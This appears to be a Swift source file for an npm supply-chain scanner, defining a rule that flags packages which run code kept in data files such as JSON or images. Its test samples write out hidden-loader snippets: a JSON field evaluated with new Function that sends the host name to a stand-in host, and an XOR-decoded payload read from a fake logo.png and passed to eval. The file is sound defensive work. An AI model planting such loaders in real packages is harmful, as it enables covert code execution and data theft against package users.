// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A script takes text from a file of the package that is no script, and runs it.
package struct RunsTextFromFile: Rule {
    package init() {}

    package let card = RuleCard(
        id: "runs-text-from-file", kind: .content, title: "Runs code kept in a data file", severity: .high, confidence: .high,
        status: .stable,
        revision: 1, group: "disguise",
        rationale: "Code in a picture, a licence or a table is where nobody looks for it.",
        knownFalseAlarms: ["A loader of templates that come with the package as text."],
        references: ["https://snyk.io/blog/a-post-mortem-of-the-malicious-event-stream-backdoor/"],
        fires: [
            RuleSample(
                "a table",
                .sample([
                    "index.js": "const t = require('./t.json'); new Function('require', t.init)(require);",
                    "t.json": #"{"init":"require('https').get('https://c.test/?' + require('os').hostname())"}"#,
                ])),
            RuleSample(
                "a picture",
                .sample([
                    "index.js":
                        "const fs = require('fs'); const b = fs.readFileSync(__dirname + '/logo.png'); let s = ''; for (const x of b) s += String.fromCharCode(x ^ 42); eval(s);",
                    "logo.png": "not a picture at all",
                ])),
        ],
        staysSilent: [
            RuleSample(
                "what the caller names",
                .sample([
                    "index.js":
                        "const fs = require('fs'), vm = require('vm'); exports.run = (f) => vm.runInThisContext(fs.readFileSync(f, 'utf8'));"
                ])),
            RuleSample(
                "its own sources, as old tools do",
                .sample([
                    "index.js": "const fs = require('fs'); new Function(fs.readFileSync(__dirname + '/lib/a.js', 'utf8'))();",
                    "lib/a.js": "exports.a = 1;",
                ])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        for flow in facts.behaviour.flows where flow.fact.kind == .runsText && !facts.files[flow.file].isAside {
            let moment = facts.moment(of: flow.fact, in: flow.file)
            guard moment.isByItself else { continue }
            let data = Self.data(of: flow, facts)
            guard let first = data.first else { continue }
            let isTelling = data.contains {
                facts.behaviour.files[$0]?.facts.contains { $0.kind == .network || $0.kind == .startsProcess } == true
            }
            let isOdd =
                !facts.files[first].kind.isText || !facts.files[first].path.contains(".")
                || !flow.taint.isDisjoint(with: [.decoded, .decrypted])
            return [
                card.finding(
                    "\(facts.files[flow.file].path) runs text from \(facts.files[first].path) as code\(moment.words)",
                    strength: (isTelling ? 0.6 : 0) + (isOdd ? 0.4 : 0.1),
                    evidence: [facts.evidence(flow.fact, in: flow.file)]
                        + data.prefix(2).map { Evidence(file: facts.files[$0].path, excerpt: "read as code") },
                    meaning: "The code was put where nobody reads it.")
            ]
        }
        return []
    }

    /// Files of the release, no scripts, that a file reads and whose text gets to where it runs.
    private static func data(of flow: Flow, _ facts: ReleaseFacts) -> [Int] {
        let loaded = (facts.behaviour.loads[flow.file] ?? []).filter { facts.behaviour.runsFromData.contains($0) }
        guard flow.taint.contains(.file) || flow.fact.taint.rawValue != 0 else { return [] }
        return loaded
    }
}
